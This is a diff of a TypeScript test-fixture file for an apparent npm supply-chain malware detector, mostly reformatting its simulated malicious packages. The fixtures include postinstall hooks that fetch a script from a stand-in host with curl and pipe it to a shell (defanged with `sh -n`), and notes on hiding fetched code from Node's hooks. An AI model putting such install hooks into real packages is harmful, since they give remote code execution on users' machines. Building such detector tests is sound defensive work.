@@ -52,7 +52,10 @@ export const fetched: readonly Simulant[] = [
         { 'task.js': text`console.log('simulant marker');` },
       ),
     ],
-    expect: fires('malicious', [ran, finding('exec.foreign-runtime', 'high', ['net.http', 'file.write', 'process.exec'], inHook)]),
+    expect: fires('malicious', [
+      ran,
+      finding('exec.foreign-runtime', 'high', ['net.http', 'file.write', 'process.exec'], inHook),
+    ]),
     note: 'A second JavaScript runtime is fetched to run a shipped script out of sight of Node’s hooks.',
   },
   {
@@ -74,7 +77,10 @@ export const fetched: readonly Simulant[] = [
         { scripts: { postinstall: `${latchCommand}sh get.sh` } },
       ),
     ],
-    expect: fires('malicious', [ran, finding('exec.foreign-runtime', 'high', ['net.http', 'file.write', 'process.exec'], inHook)]),
+    expect: fires('malicious', [
+      ran,
+      finding('exec.foreign-runtime', 'high', ['net.http', 'file.write', 'process.exec'], inHook),
+    ]),
     note: 'curl fetches, Python runs, nothing stays.',
   },
   {
@@ -86,7 +92,9 @@ export const fetched: readonly Simulant[] = [
       pkg(
         'b02-pipe',
         {},
-        { scripts: { postinstall: `${latchCommand}(curl -fs -m 5 http://stage.simulant.invalid/i.sh | sh -n || true)` } },
+        {
+          scripts: { postinstall: `${latchCommand}(curl -fs -m 5 http://stage.simulant.invalid/i.sh | sh -n || true)` },
+        },
       ),
     ],
     expect: fires('malicious', [ranUnwritten]),
@@ -166,7 +174,17 @@ export const fetched: readonly Simulant[] = [
         `,
       ),
     ],
-    expect: fires('malicious', [finding('exec.fetched-code', 'critical', [['net.http', 'process.exec'], ['net.http', 'process.exec']], inHook)]),
+    expect: fires('malicious', [
+      finding(
+        'exec.fetched-code',
+        'critical',
+        [
+          ['net.http', 'process.exec'],
+          ['net.http', 'process.exec'],
+        ],
+        inHook,
+      ),
+    ]),
     note: 'An interpreter without environment gets the fetched text on standard input; `--check` keeps it from running.',
   },
   {
@@ -190,7 +208,9 @@ export const fetched: readonly Simulant[] = [
         { homepage: 'https://data.acme.test/', scripts: { postinstall: 'node update.js' } },
       ),
     ],
-    expect: quiet(['exec.', 'c2.', 'net.import-egress'], { allowed: { 'net.egress': 'low', 'install.prebuilt-download': 'low' } }),
+    expect: quiet(['exec.', 'c2.', 'net.import-egress'], {
+      allowed: { 'net.egress': 'low', 'install.prebuilt-download': 'low' },
+    }),
     note: 'Fetched bytes are parsed as JSON into the own folder and never run.',
   },
 ];
